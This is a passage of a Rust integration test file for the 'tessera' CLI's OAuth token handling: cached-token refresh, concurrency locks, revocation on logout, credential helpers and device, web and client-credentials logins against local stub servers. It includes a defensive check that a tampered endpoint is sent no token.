//! The real `tessera` binary's OAuth logins and token cache: against the
//! counting token server of `support` (refresh, the 32-process race, revoked
//! grants, the network) and against npm oidc-provider (client credentials,
//! web with a pasted redirect, device, logout revocation).
// Unix only: file modes and npm peers.
#![cfg(unix)]

mod support;

use std::io::Write as _;
use std::process::Stdio;
use support::{RefreshReply, Tessera, TokenServer, stderr, stdout};
use tessera_testkit::{Browser, CC_BASIC, HttpStub, Landing, OidcProvider, StubResponse};

// ---------------------------------------------------------------------------
// Token cache and refresh (counting server).

#[test]
fn a_valid_cached_token_needs_no_server() {
    let server = TokenServer::start(RefreshReply::Grant);
    // Nor the TLS trust settings: they are read only to renew.
    let t = Tessera::new(&support::closed_port_url()).with_env("SSL_CERT_DIR", "/nonexistent");
    t.seed_session(
        &server
            .expired_session()
            .replace("expires_at = 1000", "expires_at = 99999999999"),
    );
    assert_eq!(t.ok(&["auth", "token"]), "at-expired\n");
    assert_eq!(server.refresh_count(), 0);
}

/// The TLS trust (`SSL_CERT_FILE`, `SSL_CERT_DIR`: ~300 files on Debian) is
/// read by the process that renews, not by those that wait for its lock and
/// take what it wrote: every one of 32 processes with an expired token read it
/// first, which made them 3x slower than one (`bench/token-refresh`). Here a
/// renewal holds the lock throughout, and a token that still works serves
/// without the trust, unreadable as it is.
#[test]
fn a_process_waiting_for_another_ones_renewal_reads_no_tls_trust() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url).with_env("SSL_CERT_DIR", "/nonexistent");
    let soon = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + 30;
    t.seed_session(
        &server
            .expired_session()
            .replace("expires_at = 1000", &format!("expires_at = {soon}")),
    );
    let store = tessera_client::Store::in_dir(&t.config, &tessera_client::TESSERA);
    let _renewing = store.lock_profile("default").unwrap();
    let out = t.run(&["auth", "token"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "at-expired\n");
    assert!(
        stderr(&out).contains("another process is renewing it"),
        "{}",
        stderr(&out)
    );
    assert_eq!(server.refresh_count(), 0);
}

/// A renewal over plain http (a server on this machine) makes no TLS
/// connection, so it reads no trust, as curl does: a broken SSL_CERT_DIR
/// does not stop it, and the one process the others wait for is not slowed
/// by the few hundred files of a Debian SSL_CERT_DIR (`bench/token-refresh`).
#[test]
fn a_renewal_over_plain_http_reads_no_tls_trust() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url).with_env("SSL_CERT_DIR", "/nonexistent");
    t.seed_session(&server.expired_session());
    assert_eq!(t.ok(&["auth", "token"]), "at-1\n");
    assert_eq!(server.refresh_count(), 1);
}

/// Over https the trust is read, and one that cannot be read is said (exit
/// 2, the variable named) before anything is sent.
#[test]
fn a_renewal_over_https_says_a_trust_that_cannot_be_read() {
    let url = support::closed_port_url().replacen("http://", "https://", 1);
    let t = Tessera::new(&url).with_env("SSL_CERT_DIR", "/nonexistent");
    t.seed_session(&format!(
        "method = \"web\"\naccess_token = \"at-expired\"\nrefresh_token = \"rt-0\"\nexpires_at = 1000\nclient_id = \"tessera-cli\"\ntoken_endpoint = \"{url}/token\"\nobtained_at = 0\n"
    ));
    let out = t.run(&["auth", "token"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("SSL_CERT_DIR"), "{}", stderr(&out));
}

#[test]
fn an_expired_token_is_refreshed_once_and_cached() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    t.seed_session(&server.expired_session());
    assert_eq!(t.ok(&["auth", "token"]), "at-1\n");
    assert_eq!(t.ok(&["auth", "token"]), "at-1\n");
    assert_eq!(server.refresh_count(), 1);
    let session = t.session("default");
    assert_eq!(session["refresh_token"].as_str(), Some("rt-1"), "rotated");
    let json: serde_json::Value =
        serde_json::from_str(&t.ok(&["auth", "token", "--json"])).unwrap();
    assert_eq!(json["token_type"], "bearer");
    assert_eq!(json["source"], "oauth");
}

/// A renewal the token endpoint rate limits is waited out (bounded), and
/// the wait is said on stderr: it was up to half a minute without a word.
#[test]
fn a_rate_limited_renewal_says_that_it_waits() {
    let answered = std::sync::atomic::AtomicUsize::new(0);
    let stub = HttpStub::builder()
        .route("POST", "/token", move |_, _| {
            match answered.fetch_add(1, std::sync::atomic::Ordering::SeqCst) {
                0 => StubResponse::text(429, r#"{"error":"rate_limited"}"#)
                    .header("Content-Type", "application/json")
                    .header("Retry-After", "0"),
                _ => StubResponse::text(
                    200,
                    r#"{"access_token":"at-2","token_type":"Bearer","expires_in":3600,"refresh_token":"rt-2"}"#,
                )
                .header("Content-Type", "application/json"),
            }
        })
        .start();
    let t = Tessera::new(&stub.url);
    t.seed_session(&format!(
        "method = \"web\"\naccess_token = \"at-1\"\nrefresh_token = \"rt-1\"\nexpires_at = 1000\nclient_id = \"tessera-cli\"\ntoken_endpoint = \"{}/token\"\nobtained_at = 0\n",
        stub.url
    ));
    let out = t.run(&["auth", "token"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "at-2\n");
    let said = stderr(&out);
    assert!(
        said.starts_with("renewing the token: rate limited (HTTP 429); retrying in ")
            && said.trim_end().ends_with("(attempt 2 of 3)")
            && said.lines().count() == 1,
        "{said}"
    );
}

#[test]
fn thirty_two_processes_with_an_expired_token_refresh_once() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    t.seed_session(&server.expired_session());
    let children: Vec<_> = (0..32)
        .map(|_| {
            t.command(&["auth", "token"])
                .stdin(Stdio::null())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let outputs: Vec<_> = children
        .into_iter()
        .map(|c| c.wait_with_output().unwrap())
        .collect();
    for out in &outputs {
        assert!(out.status.success(), "{}", stderr(out));
        assert_eq!(stdout(out), "at-1\n");
    }
    assert_eq!(
        server.refresh_count(),
        1,
        "exactly one refresh reached the server"
    );
}

/// A token server whose refresh of `rt-a` hangs until `release` is sent;
/// `renewing` hears when it starts. Revoked tokens are recorded in
/// `revoked`. `t` has two profiles with expired logins: `default` (`rt-a`)
/// and `b` (`rt-b`).
struct HungRenewal {
    t: Tessera,
    renewing: std::sync::mpsc::Receiver<()>,
    release: std::sync::mpsc::Sender<()>,
    revoked: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
    _stub: HttpStub,
}

impl HungRenewal {
    fn start() -> Self {
        use std::sync::{Arc, Mutex, mpsc};
        let (started, renewing) = mpsc::sync_channel(1);
        let (release, released) = mpsc::channel::<()>();
        let (started, released) = (Mutex::new(started), Mutex::new(released));
        let revoked = Arc::new(Mutex::new(Vec::new()));
        let recorded = revoked.clone();
        let stub = HttpStub::builder()
            .route("POST", "/token", move |request, _| {
                let rt = request.form("refresh_token").unwrap_or_default();
                if rt == "rt-a" {
                    let _ = started.lock().unwrap().send(());
                    let _ = released.lock().unwrap().recv();
                }
                StubResponse::text(
                    200,
                    &format!(
                        r#"{{"access_token":"at-new-{rt}","token_type":"Bearer","expires_in":3600,"refresh_token":"{rt}-2"}}"#
                    ),
                )
            })
            .route("POST", "/revoke", move |request, _| {
                let token = request.form("token").unwrap_or_default();
                recorded.lock().unwrap().push(token);
                StubResponse::text(200, "")
            })
            .start();
        let t = Tessera::new(&stub.url);
        let session = |rt: &str| {
            format!(
                "method = \"web\"\naccess_token = \"at-old-{rt}\"\nrefresh_token = \"{rt}\"\nexpires_at = 1000\nclient_id = \"tessera-cli\"\ntoken_endpoint = \"{url}/token\"\nrevocation_endpoint = \"{url}/revoke\"\nobtained_at = 0\n",
                url = stub.url
            )
        };
        t.seed_session(&format!(
            "{}\n[profiles.b.oauth]\n{}",
            session("rt-a"),
            session("rt-b")
        ));
        let config = t.config.join("config.toml");
        let mut text = std::fs::read_to_string(&config).unwrap();
        text.push_str("\n[profiles.b]\nenvironment = \"default\"\n");
        std::fs::write(&config, text).unwrap();
        HungRenewal {
            t,
            renewing,
            release,
            revoked,
            _stub: stub,
        }
    }

    fn spawn(&self, args: &[&str]) -> std::process::Child {
        self.t
            .command(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    }
}

/// `default`'s renewal hangs at the server, and `b`'s is renewed meanwhile;
/// both renewals end up saved. (Both once waited on one lock: `b` behind the
/// hung renewal until its 30 s timeout.)
#[test]
fn one_profiles_hung_renewal_does_not_hold_up_another() {
    let hung = HungRenewal::start();
    let a = hung.spawn(&["auth", "token"]);
    hung.renewing.recv().unwrap();
    let b = hung.spawn(&["--profile", "b", "auth", "token"]);
    let (done, b_done) = std::sync::mpsc::channel();
    std::thread::spawn(move || done.send(b.wait_with_output().unwrap()));
    // Not a sleep: a bound, below the hung request's 30 s timeout.
    let b = b_done.recv_timeout(std::time::Duration::from_secs(20));
    hung.release.send(()).unwrap();
    let b = b.expect("b's renewal waited for the hung one");
    assert!(b.status.success(), "{}", stderr(&b));
    assert_eq!(stdout(&b), "at-new-rt-b\n");
    let a = a.wait_with_output().unwrap();
    assert!(a.status.success(), "{}", stderr(&a));
    assert_eq!(stdout(&a), "at-new-rt-a\n");
    let t = &hung.t;
    assert_eq!(
        t.session("default")["refresh_token"].as_str(),
        Some("rt-a-2")
    );
    assert_eq!(t.session("b")["refresh_token"].as_str(), Some("rt-b-2"));
}

/// A logout of a profile whose renewal is under way waits for it (the
/// renewal holds the profile's lock) and revokes what it got, rather than
/// the spent refresh token while the new one stays valid. (Linux: the wait
/// is seen in `/proc/PID/fd`.)
#[cfg(target_os = "linux")]
#[test]
fn a_logout_revokes_what_a_renewal_under_way_gets() {
    let hung = HungRenewal::start();
    let a = hung.spawn(&["auth", "token"]);
    hung.renewing.recv().unwrap();
    let mut logout = hung.spawn(&["auth", "logout", "default", "--force"]);
    until_it_opens_a_renewal_lock(&mut logout);
    hung.release.send(()).unwrap();
    let a = a.wait_with_output().unwrap();
    assert!(a.status.success(), "{}", stderr(&a));
    let logout = logout.wait_with_output().unwrap();
    assert!(logout.status.success(), "{}", stderr(&logout));
    let revoked = hung.revoked.lock().unwrap().clone();
    assert!(revoked.contains(&"rt-a-2".to_owned()), "{revoked:?}");
    let creds = hung.t.credentials();
    assert!(
        !creds["profiles"]
            .as_table()
            .unwrap()
            .contains_key("default")
    );
    assert_eq!(hung.t.session("b")["refresh_token"].as_str(), Some("rt-b"));
}

/// Returns once `child` has a profile's renewal lock file open
/// (`credentials.toml.HASH.lock`): it is then taking that lock, or waiting
/// for it in a loop of tries (which `/proc/locks` does not show), or it has
/// ended.
#[cfg(target_os = "linux")]
fn until_it_opens_a_renewal_lock(child: &mut std::process::Child) {
    let fds = format!("/proc/{}/fd", child.id());
    let renewal_lock = |target: std::path::PathBuf| {
        let name = target.file_name().and_then(|n| n.to_str()).unwrap_or("");
        name.starts_with("credentials.toml.")
            && name.ends_with(".lock")
            && name != "credentials.toml.lock"
    };
    while child.try_wait().unwrap().is_none() {
        let open = std::fs::read_dir(&fds)
            .into_iter()
            .flatten()
            .flatten()
            .filter_map(|fd| std::fs::read_link(fd.path()).ok())
            .any(renewal_lock);
        if open {
            return;
        }
        std::thread::yield_now();
    }
}

/// A login replacing a profile whose renewal is under way waits for it and
/// revokes what it got, as logout does: it read and revoked the refresh
/// token the renewal was spending (and the old access token), while the
/// renewal's new tokens, which it then did not save, stayed valid.
#[cfg(target_os = "linux")]
#[test]
fn a_login_replacing_a_profile_revokes_what_a_renewal_under_way_gets() {
    let hung = HungRenewal::start();
    let a = hung.spawn(&["auth", "token"]);
    hung.renewing.recv().unwrap();
    let mut login = hung.spawn(&["auth", "login", "--api-key", "tk_new", "--no-verify"]);
    until_it_opens_a_renewal_lock(&mut login);
    hung.release.send(()).unwrap();
    let a = a.wait_with_output().unwrap();
    assert!(a.status.success(), "{}", stderr(&a));
    assert_eq!(stdout(&a), "at-new-rt-a\n");
    let login = login.wait_with_output().unwrap();
    assert!(login.status.success(), "{}", stderr(&login));
    let revoked = hung.revoked.lock().unwrap().clone();
    assert!(revoked.contains(&"rt-a-2".to_owned()), "{revoked:?}");
    assert!(revoked.contains(&"at-new-rt-a".to_owned()), "{revoked:?}");
    let default = &hung.t.credentials()["profiles"]["default"];
    assert_eq!(default["api_key"].as_str(), Some("tk_new"));
    assert!(default.get("oauth").is_none());
    assert_eq!(hung.t.session("b")["refresh_token"].as_str(), Some("rt-b"));
}

#[test]
fn a_revoked_grant_exits_4_naming_the_login_command() {
    let server = TokenServer::start(RefreshReply::InvalidGrant);
    let t = Tessera::new(&server.url);
    t.seed_session(&server.expired_session());
    let out = t.run(&["auth", "token"]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert!(out.stdout.is_empty());
    assert!(
        stderr(&out).contains("auth login --web"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn an_unreachable_token_endpoint_exits_5() {
    let t = Tessera::new(&support::closed_port_url());
    let dead = support::closed_port_url();
    t.seed_session(&format!(
        "method = \"device\"\naccess_token = \"at-old\"\nrefresh_token = \"rt\"\nexpires_at = 1000\nclient_id = \"c\"\ntoken_endpoint = \"{dead}/token\"\nobtained_at = 0\n"
    ));
    let out = t.run(&["auth", "token"]);
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
}

#[test]
fn status_shows_the_oauth_login() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    t.seed_session(
        &server
            .expired_session()
            .replace("method = \"web\"", "method = \"session\"\nacr = \"0\""),
    );
    let json: serde_json::Value =
        serde_json::from_str(&t.ok(&["auth", "status", "--json"])).unwrap();
    assert_eq!(json["source"], "oauth", "{json}");
    assert_eq!(json["oauth"]["method"], "session", "{json}");
    assert_eq!(json["oauth"]["level"], "0", "{json}");
    assert_eq!(json["oauth"]["expired"], true, "{json}");
    assert_eq!(json["oauth"]["scope"], "api:read", "{json}");
    let text = t.ok(&["auth", "status"]);
    assert!(text.contains("Level 0"), "{text}");
    assert!(!text.contains("at-expired"), "{text}");
    assert_eq!(server.refresh_count(), 0, "status does not refresh");

    // Without a refresh token the expired login is over: exit 4, naming the login.
    t.edit_session("default", |s| {
        s.remove("refresh_token");
    });
    let out = t.run(&["auth", "status"]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("auth login --session"),
        "{}",
        stderr(&out)
    );
}

/// The seeded login's refresh token, then its access token, were revoked at
/// `server` (RFC 7009), and nothing else.
fn assert_seeded_login_revoked(server: &TokenServer) {
    let revoked = server.revoked.lock().unwrap().clone();
    assert_eq!(
        revoked,
        [
            ("refresh_token".to_owned(), "rt-0".to_owned()),
            ("access_token".to_owned(), "at-expired".to_owned())
        ]
    );
}

#[test]
fn logout_revokes_at_the_server_then_deletes() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    t.seed_session(&server.expired_session());
    let out = t.run(&["auth", "logout", "--force"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_seeded_login_revoked(&server);
    assert!(
        !t.credentials().contains_key("profiles")
            || t.credentials()["profiles"].as_table().unwrap().is_empty()
    );
    assert_eq!(t.run(&["auth", "token"]).status.code(), Some(3));
}

/// A login that replaces an OAuth login in its profile revokes it, as logout
/// would: its refresh token would otherwise stay valid, held by nobody.
#[test]
fn a_replaced_oauth_login_is_revoked() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    t.seed_session(&server.expired_session());
    let out = t.run(&[
        "auth",
        "login",
        "--api-key",
        "lk_replacement",
        "--no-verify",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_seeded_login_revoked(&server);
    assert_eq!(t.ok(&["auth", "token"]), "lk_replacement\n");
}

#[test]
fn logout_with_the_server_down_deletes_locally_and_warns() {
    let t = Tessera::new(&support::closed_port_url());
    let dead = support::closed_port_url();
    t.seed_session(&format!(
        "method = \"web\"\naccess_token = \"at\"\nrefresh_token = \"rt\"\nexpires_at = 99999999999\nclient_id = \"c\"\nrevocation_endpoint = \"{dead}/revoke\"\nobtained_at = 0\n"
    ));
    let out = t.run(&["auth", "logout", "--force"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("not revoked"), "{}", stderr(&out));
    assert_eq!(t.run(&["auth", "token"]).status.code(), Some(3));
}

/// What is revoked is what is deleted: a login renewed by another process
/// while the question waited has its new tokens revoked, not the old ones.
#[test]
fn logout_revokes_the_tokens_stored_when_the_user_answers() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    t.seed_session(&server.expired_session());
    let mut pty = t.home.pty(&["auth", "logout"], &[]);
    pty.expect("This deletes the stored credentials");
    t.seed_session(
        &server
            .expired_session()
            .replace("rt-0", "rt-renewed")
            .replace("at-expired", "at-renewed"),
    );
    pty.send("y");
    let (code, rest) = pty.finish();
    assert_eq!(code, 0, "{rest}");
    assert_eq!(
        server.revoked.lock().unwrap().clone(),
        [
            ("refresh_token".to_owned(), "rt-renewed".to_owned()),
            ("access_token".to_owned(), "at-renewed".to_owned())
        ]
    );
}

/// A server that refuses to revoke the refresh token may still revoke the
/// access token: it is asked, and the refusal is the warning.
#[test]
fn a_refused_refresh_token_revocation_still_revokes_the_access_token() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    t.seed_session(&server.expired_session().replace("rt-0", "rt-refused"));
    let out = t.run(&["auth", "logout", "--force"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("unsupported_token_type"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        server.revoked.lock().unwrap().clone(),
        [
            ("refresh_token".to_owned(), "rt-refused".to_owned()),
            ("access_token".to_owned(), "at-expired".to_owned())
        ]
    );
}

// ---------------------------------------------------------------------------
// Tools (counting server).

#[test]
fn auth_test_and_api_use_the_bearer_token() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    t.seed_session(&server.expired_session());
    let out = t.ok(&["auth", "test"]);
    assert!(out.contains("dev@example.test"), "{out}");
    let body = t.ok(&["api", "/v1/me"]);
    let me: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(me["account_id"], "acct_1");
    let with_headers = t.ok(&["api", "--include", "v1/me"]);
    assert!(with_headers.starts_with("HTTP 200"), "{with_headers}");
    assert!(
        with_headers.contains("x-ratelimit-remaining: 99"),
        "{with_headers}"
    );
    assert_eq!(server.refresh_count(), 1);
    // Bytes are written as they came (`api … > file`), with no line end added.
    let out = t.run(&["api", "/v1/bytes"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(out.stdout, support::BYTES);

    let out = Tessera::new(&server.url)
        .with_env("TESSERA_API_KEY", "bad-key")
        .run(&["auth", "test"]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    let out = Tessera::new(&server.url)
        .with_env("TESSERA_API_KEY", "bad-key")
        .run(&["api", "/v1/me"]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    let out = Tessera::new(&support::closed_port_url())
        .with_env("TESSERA_API_KEY", "good-key")
        .run(&["auth", "test"]);
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
}

#[test]
fn api_waits_out_rate_limits_within_bounds() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url).with_env("TESSERA_API_KEY", "good-key");
    server.limited.store(2, std::sync::atomic::Ordering::SeqCst);
    let out = t.run(&["api", "/v1/limited"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out).trim(), r#"{"ok":true}"#);
    assert_eq!(
        stderr(&out).matches("rate limited").count(),
        2,
        "{}",
        stderr(&out)
    );
    server
        .limited
        .store(10, std::sync::atomic::Ordering::SeqCst);
    let out = t.run(&["api", "/v1/limited"]);
    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
}

#[test]
fn credential_helpers_print_the_token() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    t.seed_session(&server.expired_session());

    let k8s: serde_json::Value = serde_json::from_str(&t.ok(&["auth", "exec-credential"])).unwrap();
    assert_eq!(k8s["apiVersion"], "client.authentication.k8s.io/v1");
    assert_eq!(k8s["kind"], "ExecCredential");
    assert_eq!(k8s["status"]["token"], "at-1");
    assert!(
        k8s["status"]["expirationTimestamp"]
            .as_str()
            .unwrap()
            .ends_with('Z')
    );

    let host = server.url.trim_start_matches("http://");
    let out = git_credential_get(&t, &format!("protocol=http\nhost={host}\n\n"));
    assert!(out.status.success());
    assert!(stdout(&out).contains("password=at-1\n"), "{}", stdout(&out));
    // Another host: no answer, so git asks its other helpers.
    let out = git_credential_get(&t, "protocol=https\nhost=example.com\n\n");
    assert!(
        out.status.success() && out.stdout.is_empty(),
        "{}",
        stdout(&out)
    );

    let env = t.ok(&["auth", "env"]);
    assert!(env.contains("export TESSERA_TOKEN='at-1'\n"), "{env}");
    assert!(
        env.contains(&format!("export TESSERA_URL='{}'\n", server.url)),
        "{env}"
    );
    assert!(
        env.contains("export TESSERA_AUTHORIZATION='Bearer at-1'\n"),
        "{env}"
    );
    assert_eq!(server.refresh_count(), 1);
}

#[test]
fn a_stored_endpoint_on_another_server_is_sent_no_token() {
    let server = TokenServer::start(RefreshReply::Grant);
    let evil = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    // A credentials file someone else edited: the login's endpoints point
    // at another server, which would receive the refresh token.
    t.seed_session(
        &server
            .expired_session()
            .replace(
                &format!("{}/token", server.url),
                &format!("{}/token", evil.url),
            )
            .replace(
                &format!("{}/revoke", server.url),
                &format!("{}/revoke", evil.url),
            ),
    );
    for args in [
        &["auth", "token"][..],
        &["auth", "exec-credential"],
        &["auth", "env"],
        &["api", "/v1/me"],
    ] {
        let out = t.run(args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains("Log in again"), "{}", stderr(&out));
        assert!(!stdout(&out).contains("at-"), "{}", stdout(&out));
    }
    let out = t.run(&["auth", "logout", "--force"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("not revoked"), "{}", stderr(&out));
    assert!(
        evil.stub.requests().is_empty(),
        "nothing went to the other server"
    );
    assert_eq!(server.refresh_count(), 0);
    assert!(server.revoked.lock().unwrap().is_empty());
}

// ---------------------------------------------------------------------------
// Against npm oidc-provider.

#[test]
fn client_credentials_login_and_renewal() {
    let Some(provider) = OidcProvider::provider() else {
        return;
    };
    let t = Tessera::new(&provider.url);
    let out = t.run(&["auth", "login", "--client-credentials"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("TESSERA_CLIENT_ID"),
        "{}",
        stderr(&out)
    );
    let t = t.with_env("TESSERA_CLIENT_ID", CC_BASIC.0);
    let out = t.run(&["auth", "login", "--client-credentials"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("TESSERA_CLIENT_SECRET"),
        "{}",
        stderr(&out)
    );

    let t = t.with_env("TESSERA_CLIENT_SECRET", CC_BASIC.1);
    t.ok(&[
        "auth",
        "login",
        "--client-credentials",
        "--scope",
        "api:read",
        "--api-key",
        "lk_customer-key-0123456789",
    ]);
    let first = t.ok(&["auth", "token"]).trim().to_owned();
    assert!(provider.is_active(&first));
    // A client-credentials login does not bind its token: no warning.
    assert!(!stderr(&t.run(&["auth", "token"])).contains("DPoP"));
    assert_eq!(
        t.session("default")["method"].as_str(),
        Some("client_credentials")
    );

    // Expired: the next `token` asks again with the stored client secret.
    t.edit_session("default", |s| {
        s.insert("expires_at".into(), 1000.into());
    });
    let second = t.ok(&["auth", "token"]).trim().to_owned();
    assert_ne!(first, second);
    assert!(provider.is_active(&second));

    // Wrong secret: the server refuses, exit 4.
    let out = Tessera::new(&provider.url)
        .with_env("TESSERA_CLIENT_ID", CC_BASIC.0)
        .with_env("TESSERA_CLIENT_SECRET", "wrong")
        .run(&["auth", "login", "--client-credentials"]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
}

#[test]
fn web_login_with_a_pasted_redirect_then_refresh_and_logout() {
    let Some(provider) = OidcProvider::provider() else {
        return;
    };
    let t = Tessera::new(&provider.url);
    let mut child = t.spawn(&[
        "auth",
        "login",
        "--web",
        "--no-browser",
        "--scope",
        "api:read",
    ]);
    let url = child.stderr_until(|line| {
        let line = line.trim();
        line.starts_with(&provider.url).then(|| line.to_owned())
    });
    // The user's browser is elsewhere: it cannot reach the loopback port,
    // so the user pastes the address it ended on.
    let Landing::Away(address) = Browser::new(&provider.url).walk(&url) else {
        panic!("the browser did not end at the loopback redirect");
    };
    assert!(address.starts_with("http://127.0.0.1:"), "{address}");
    writeln!(child.child.stdin.take().unwrap(), "{address}").unwrap();
    let (code, err) = child.finish();
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("Logged in to"), "{err}");

    let session = t.session("default");
    assert_eq!(session["method"].as_str(), Some("web"));
    assert_eq!(session["client_id"].as_str(), Some("tessera-cli"));
    // oidc-provider does DPoP: the login made a key and the tokens are bound to it.
    assert_eq!(
        session["dpop_key"]["alg"].as_str(),
        Some("EdDSA"),
        "{session}"
    );
    let first = t.ok(&["auth", "token"]).trim().to_owned();
    assert!(provider.is_active(&first));
    // What hands the token on as a plain string says that it will not do.
    let printed = t.run(&["auth", "token"]);
    assert!(
        stderr(&printed).contains("bound to this machine (DPoP)"),
        "{}",
        stderr(&printed)
    );
    let status = t.ok(&["auth", "status"]);
    assert!(
        status.contains(
            "bound to this machine (DPoP): `tessera auth token` output alone will be refused by the server"
        ),
        "{status}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&t.ok(&["auth", "status", "--json"])).unwrap();
    assert!(json["oauth"]["dpop_jkt"].is_string(), "{json}");

    // Refresh on expiry (with a proof of the login's key); the refresh token
    // stored is the one the server says is current.
    t.edit_session("default", |s| {
        s.insert("expires_at".into(), 1000.into());
    });
    let second = t.ok(&["auth", "token"]).trim().to_owned();
    assert_ne!(first, second);
    assert!(provider.is_active(&second));
    let new_refresh = t.session("default")["refresh_token"]
        .as_str()
        .unwrap()
        .to_owned();
    // oidc-provider rotates a public client's refresh token only when it is
    // not sender-constrained; this one is bound to the key, so it stays.
    assert!(provider.is_active(&new_refresh));

    // Logout revokes at the server: introspection says inactive.
    let out = t.run(&["auth", "logout", "--force"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!provider.is_active(&second), "access token revoked");
    assert!(!provider.is_active(&new_refresh), "refresh token revoked");
}

#[test]
fn device_login_approved_in_the_browser() {
    let Some(provider) = OidcProvider::provider() else {
        return;
    };
    let t = Tessera::new(&provider.url);
    let mut child = t.spawn(&["auth", "login", "--device", "--scope", "api:read"]);
    let complete = child.stderr_until(|line| {
        let line = line.trim();
        (line.starts_with(&provider.url) && line.contains("user_code=")).then(|| line.to_owned())
    });
    let page = Browser::new(&provider.url).walk(&complete);
    let page = page.page();
    assert_eq!(page.status, 200, "{}", page.html);
    assert!(page.html.contains("device-success"), "{}", page.html);
    let (code, err) = child.finish();
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("enter the code"), "{err}");
    assert_eq!(t.session("default")["method"].as_str(), Some("device"));
    let token = t.ok(&["auth", "token"]).trim().to_owned();
    assert!(provider.is_active(&token));
}

#[test]
fn device_login_denied_exits_4() {
    let Some(provider) = OidcProvider::provider() else {
        return;
    };
    let t = Tessera::new(&provider.url);
    let mut child = t.spawn(&["auth", "login", "--device"]);
    let complete = child.stderr_until(|line| {
        let line = line.trim();
        (line.starts_with(&provider.url) && line.contains("user_code=")).then(|| line.to_owned())
    });
    let _ = Browser::new(&provider.url).denying().walk(&complete);
    let (code, err) = child.finish();
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("denied"), "{err}");
}

#[test]
fn web_login_times_out_with_a_clear_message() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url);
    // Nobody opens the URL and nothing is pasted (stdin is empty).
    let out = t.run(&["auth", "login", "--web", "--no-browser", "--timeout", "1"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains(&format!("{}/authorize?", server.url)), "{err}");
    assert!(
        err.contains("timed out") && err.contains("--timeout"),
        "{err}"
    );
    assert_eq!(t.run(&["auth", "token"]).status.code(), Some(3));
}

#[test]
fn login_without_a_method_or_terminal_names_the_flags() {
    let t = Tessera::new(&support::closed_port_url());
    let out = t.run(&["auth", "login"]);
    assert_eq!(out.status.code(), Some(2));
    for flag in ["--web", "--device", "--api-key", "--client-credentials"] {
        assert!(stderr(&out).contains(flag), "{}", stderr(&out));
    }
}

#[test]
fn session_login_is_level_0() {
    let server = TokenServer::start(RefreshReply::Grant);
    let t = Tessera::new(&server.url).with_env(
        "TESSERA_TOKEN_URL",
        &format!("{}/session-token", server.url),
    );
    let out = t.run(&["auth", "login", "--session", "--session-id", "sess-used"]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    let out = t.run(&["auth", "login", "--session", "--session-id", "sess-good"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("Level 0"), "{}", stderr(&out));
    assert_eq!(t.ok(&["auth", "token"]), "at-session\n");
    let json: serde_json::Value =
        serde_json::from_str(&t.ok(&["auth", "status", "--json"])).unwrap();
    assert_eq!(json["oauth"]["method"], "session", "{json}");
    assert_eq!(json["oauth"]["level"], "0", "{json}");
    assert!(t.ok(&["auth", "status"]).contains("Level:       Level 0"));
}

#[test]
fn email_login_in_two_steps() {
